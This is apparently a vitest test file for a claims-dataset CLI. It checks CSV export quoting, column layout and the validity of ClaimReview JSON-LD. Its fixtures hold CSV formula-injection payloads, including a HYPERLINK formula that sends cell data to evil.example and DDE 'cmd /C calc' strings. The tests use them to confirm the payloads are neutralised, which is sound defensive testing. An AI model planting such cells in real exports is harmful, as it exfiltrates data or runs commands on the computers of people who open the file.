/**
 * `claims export` read by the programs that consume it: a CSV parser (csv-parse) for the CSV formats, and the
 * JSON-LD processor (jsonld) for the ClaimReview formats, plus Google's documented ClaimReview requirements.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import jsonld from 'jsonld';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { csvField } from '../src/format/values.js';
import { FIXTURES, runCli } from './cli-helpers.js';
import { fixtureCopy, PUBLISHING } from './helpers.js';

/** A copy of the 'query' fixture with extra files (relative path -> text) written over it. */
const queryCopy = (extra: Record<string, string>): string => fixtureCopy('query', extra);

type Json = Record<string, any>;

/** Parses CSV the way a program reading our export would, one object per row keyed by the header. */
const readCsv = (text: string): Record<string, string>[] => parse(text, { columns: true, record_delimiter: '\r\n' });

// Cells a spreadsheet would run as formulas: every first character OWASP's "CSV Injection" page lists.
const HOSTILE_CLAIM = [
  'type: claim',
  'id: hostile-cells',
  'subject: "@Acme"',
  'category: other',
  'statement: "=HYPERLINK(\\"https://evil.example/?d=\\"&A1, \\"click\\")"',
  'status: rumored',
  'tags: ["+SUM(1,2)"]',
  'evidence:',
  '  - source: tipsters',
  '    quote: "-2+3+cmd|\' /C calc\'!A0"',
  '    locator: -3',
  '  - source: tipsters',
  '    quote: "\\t=1+1"',
  '    locator: "\\r=1+1"',
  '  - source: tipsters',
  '    quote: "-5"',
  '    locator: "-0.25"',
  '',
].join('\n');

const HOSTILE_SOURCE = 'type: source\nid: formula-source\ntitle: "=cmd|\' /C calc\'!A0"\npublisher: "@evil"\nkind: news\n';

describe('CSV cells that would start a formula (OWASP "CSV Injection")', () => {
  it('csvField: a leading quote and quoting for = + - @ tab and CR; plain negative numbers stay numbers', () => {
    for (const s of ['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '-5%', '-1e3', '-', '-2+3']) {
      expect(csvField(s), JSON.stringify(s)).toBe(`"'${s}"`);
    }
    expect(csvField('=a "b", c')).toBe(`"'=a ""b"", c"`);
    for (const s of ['-5', '-0.25', '5', 'a=b', ' =1', '']) expect(csvField(s), JSON.stringify(s)).toBe(s);
  });

  it('claims CSV (export and list): a CSV reader gets the text with a leading quote, never a cell starting a formula', async () => {
    const root = queryCopy({ 'claims/acme/hostile-cells.yaml': HOSTILE_CLAIM });
    const out = (await runCli(['export', '--format', 'csv', '--search', 'hyperlink'], root)).stdout;
    expect((await runCli(['list', '--format', 'csv', '--search', 'hyperlink'], root)).stdout).toBe(out);
    const [row, ...rest] = readCsv(out);
    expect(rest).toEqual([]);
    expect(row!.statement).toBe(`'=HYPERLINK("https://evil.example/?d="&A1, "click")`);
    expect(row!.subject).toBe("'@Acme");
    expect(row!.tags).toBe("'+SUM(1,2)");
    for (const cell of Object.values(row!)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('csv-evidence: quotes and locators neutralised the same way; -3 and -0.25 stay numbers', async () => {
    const root = queryCopy({ 'claims/acme/hostile-cells.yaml': HOSTILE_CLAIM });
    const out = (await runCli(['export', '--format', 'csv-evidence', '--search', 'hyperlink'], root)).stdout;
    const rows = readCsv(out);
    expect(rows.map((r) => [r.quote, r.locator])).toEqual([
      ["'-2+3+cmd|' /C calc'!A0", '-3'],
      ["'\t=1+1", "'\r=1+1"],
      ['-5', '-0.25'],
    ]);
    expect(rows.every((r) => r.subject === "'@Acme")).toBe(true);
    // What the spreadsheet reads as a number is written bare, so it stays a number there.
    expect(out).toContain(',-3,');
    expect(out).toContain(',-5,-0.25,');
  });

  it('sources CSV: the same helper neutralises titles and publishers', async () => {
    const root = queryCopy({ 'claims/sources/formula-source.yaml': HOSTILE_SOURCE });
    const rows = readCsv((await runCli(['sources', '--format', 'csv'], root)).stdout);
    const row = rows.find((r) => r.id === 'formula-source');
    expect(row).toMatchObject({ title: "'=cmd|' /C calc'!A0", publisher: "'@evil" });
  });
});

describe('claims CSV: columns', () => {
  it('a CSV reader finds every documented column, tags last, joined with "; "', async () => {
    const rows = readCsv((await runCli(['export', '--format', 'csv'], 'query')).stdout);
    expect(Object.keys(rows[0]!)).toEqual([
      'id', 'file', 'subject', 'parties', 'category', 'assertion', 'statement', 'value', 'as_of', 'due', 'outcome', 'status', 'support',
      'origins_independent', 'origins_party', 'origins_self', 'origins_anonymous', 'origin_ids', 'sources', 'overdue', 'superseded_by',
      'reliability', 'credibility', 'grade', 'origins_unattributed', 'tags',
    ]);
    expect(rows.find((r) => r.id === 'arr-2026-02')!.tags).toBe('growth');
    expect(rows.find((r) => r.id === 'rumored-round')!.tags).toBe('');
    const root = queryCopy({ 'claims/acme/tagged.yaml': HOSTILE_CLAIM.replace('hostile-cells', 'tagged').replace('["+SUM(1,2)"]', '[funding, "series B"]') });
    const tagged = readCsv((await runCli(['export', '--format', 'csv', '--search', 'hyperlink'], root)).stdout);
    expect(tagged[0]!.tags).toBe('funding; series B');
  });

  it('csv-evidence: one row per evidence item, with the source, quote, relays and whose word it is', async () => {
    const rows = readCsv((await runCli(['export', '--format', 'csv-evidence', '--sort', 'id'], 'query')).stdout);
    expect(Object.keys(rows[0]!)).toEqual([
      'claim_id', 'subject', 'status', 'item', 'source', 'source_title', 'source_publisher', 'source_published', 'source_url',
      'quote', 'locator', 'via', 'origin', 'origin_publisher', 'origin_class',
    ]);
    // As many rows per claim as the claim file lists evidence items, in the same order.
    const claimsDir = join(FIXTURES, 'query', 'claims');
    const files = readdirSync(claimsDir, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.yaml'));
    const claims = files.map((f) => parseYaml(readFileSync(join(claimsDir, f), 'utf8')) as Json).filter((d) => d.type === 'claim');
    expect(claims).toHaveLength(8);
    for (const c of claims) {
      expect(rows.filter((r) => r.claim_id === c.id).map((r) => [r.item, r.source, r.quote]), c.id)
        .toEqual((c.evidence as Json[]).map((ev, i) => [String(i + 1), ev.source, ev.quote ?? '']));
    }
    expect(rows.filter((r) => r.claim_id === 'arr-2026-02')).toEqual([
      {
        claim_id: 'arr-2026-02', subject: 'Acme', status: 'company-reported', item: '1', source: 'daily', source_title: 'Daily roundup',
        source_publisher: 'The Daily', source_published: '2026-02-03', source_url: '', quote: 'Acme says ARR passed $10 million', locator: '',
        via: 'wire', origin: 'acme-blog', origin_publisher: 'Acme', origin_class: 'self',
      },
      {
        claim_id: 'arr-2026-02', subject: 'Acme', status: 'company-reported', item: '2', source: 'wire', source_title: 'Wire story on Acme results',
        source_publisher: 'Newswire', source_published: '2026-02-02', source_url: '', quote: 'ARR passed $10 million, the company said',
        locator: '', via: '', origin: 'acme-blog', origin_publisher: 'Acme', origin_class: 'self',
      },
    ]);
    const globex = rows.filter((r) => r.claim_id === 'globex-investment').map((r) => [r.origin, r.origin_class]);
    expect(globex).toEqual([['globex-pr', 'party'], ['registry', 'independent']]);
  });
});


/**
 * The schema.org terms the ClaimReview export may use, defined as schema.org's own context
 * (https://schema.org/docs/jsonldcontext.jsonld) defines them: IRIs under http://schema.org/, `url` an IRI, dates typed
 * schema:Date. Unlike that context it has no `@vocab`, so jsonld's safe mode fails on any term not listed here
 * (a misspelt or invented property), where `@vocab` would quietly accept it. Served locally: tests use no network.
 */
const SCHEMA_TYPES = ['ClaimReview', 'Claim', 'CreativeWork', 'Organization', 'Rating'];
const SCHEMA_PROPERTIES = [
  'identifier', 'claimReviewed', 'itemReviewed', 'author', 'appearance', 'firstAppearance', 'reviewRating', 'ratingValue',
  'bestRating', 'worstRating', 'alternateName', 'name', 'publisher',
];
const SCHEMA_CONTEXT = {
  '@context': {
    schema: 'http://schema.org/',
    ...Object.fromEntries([...SCHEMA_TYPES, ...SCHEMA_PROPERTIES].map((t) => [t, { '@id': `schema:${t}` }])),
    url: { '@id': 'schema:url', '@type': '@id' },
    datePublished: { '@id': 'schema:datePublished', '@type': 'schema:Date' },
  },
};

const requested: string[] = [];
/** Serves the schema.org context from memory and refuses every other URL: nothing is fetched. */
const documentLoader = async (url: string) => {
  requested.push(url);
  if (url !== 'https://schema.org' && url !== 'https://schema.org/') throw new Error(`no network in tests: ${url}`);
  return { contextUrl: undefined, documentUrl: url, document: SCHEMA_CONTEXT };
};
const options = { documentLoader, safe: true } as unknown as jsonld.Options.Expand;

const RDF_TYPE = '<http://www.w3.org/1999/02/22-rdf-syntax-ns#type>';

describe('ClaimReview read by the jsonld processor with the schema.org context', () => {
  it('--format jsonld and claimreview expand without dropping a term, and give the same RDF', async () => {
    const root = queryCopy({ 'claims.config.yaml': PUBLISHING });
    const doc = JSON.parse((await runCli(['export', '--format', 'jsonld'], root)).stdout) as Json;
    const array = JSON.parse((await runCli(['export', '--format', 'claimreview'], root)).stdout) as Json[];
    const expanded = await jsonld.expand(doc, options);
    expect(expanded).toHaveLength(8);
    await jsonld.expand(array as unknown as jsonld.JsonLdDocument, options);
    const nquads = (await jsonld.toRDF(doc, { documentLoader, format: 'application/n-quads' } as never)) as unknown as string;
    const fromArray = (await jsonld.toRDF(array as never, { documentLoader, format: 'application/n-quads' } as never)) as unknown as string;
    // Blank-node labels differ between the two documents; the statements do not.
    const shape = (nq: string) => nq.replace(/_:b\d+/g, '_:b').split('\n').sort();
    expect(shape(fromArray)).toEqual(shape(nquads));
    const lines = nquads.split('\n');
    expect(lines.filter((l) => l.endsWith(`${RDF_TYPE} <http://schema.org/ClaimReview> .`))).toHaveLength(8);
    expect(lines.some((l) => l.endsWith('<http://schema.org/url> <https://example.org/claims/arr-2026-02> .'))).toBe(true);
    expect(lines.some((l) => l.endsWith('<http://schema.org/url> <https://example.org> .'))).toBe(true);
    expect(lines.filter((l) => l.endsWith('<http://schema.org/datePublished> "2026-11-24"^^<http://schema.org/Date> .'))).toHaveLength(8);
    expect(requested.every((u) => u.startsWith('https://schema.org'))).toBe(true);
  });

  it('the check can fail: a term schema.org does not define makes safe mode throw', async () => {
    const root = queryCopy({ 'claims.config.yaml': PUBLISHING });
    const doc = JSON.parse((await runCli(['export', '--format', 'jsonld', '--limit', '1'], root)).stdout) as Json;
    doc['@graph'][0].claimReveiwed = 'misspelt';
    await expect(jsonld.expand(doc, options)).rejects.toThrow();
  });

  it("has every property Google's ClaimReview documentation requires, and those it recommends", async () => {
    // Google Search Central, "Fact check (ClaimReview) structured data"
    // (https://developers.google.com/search/docs/appearance/structured-data/factcheck), structured data type definitions:
    //   ClaimReview — required: claimReviewed, reviewRating, url; recommended: author, datePublished, itemReviewed.
    //   Claim — recommended: appearance, author, firstAppearance (datePublished is recommended too; the dataset has no claim date).
    //   Rating — required: alternateName; recommended: bestRating, ratingValue, worstRating (and name).
    const root = queryCopy({ 'claims.config.yaml': PUBLISHING });
    const graph = (JSON.parse((await runCli(['export', '--format', 'jsonld'], root)).stdout) as Json)['@graph'] as Json[];
    expect(graph).toHaveLength(8);
    const present = (x: unknown) => x !== undefined && x !== null && x !== '';
    for (const x of graph) {
      for (const key of ['claimReviewed', 'reviewRating', 'url', 'author', 'datePublished', 'itemReviewed']) {
        expect(present(x[key]), `${x.identifier}: ClaimReview.${key}`).toBe(true);
      }
      expect(URL.canParse(x.url)).toBe(true);
      expect(x.datePublished).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(x.author.name).toBe('Example News');
      expect(x.itemReviewed['@type']).toBe('Claim');
      for (const key of ['appearance', 'author', 'firstAppearance']) expect(present(x.itemReviewed[key]), `${x.identifier}: Claim.${key}`).toBe(true);
      expect(typeof x.reviewRating.alternateName).toBe('string');
      expect(x.reviewRating.ratingValue).toBeGreaterThanOrEqual(x.reviewRating.worstRating);
      expect(x.reviewRating.ratingValue).toBeLessThanOrEqual(x.reviewRating.bestRating);
    }
  });
});
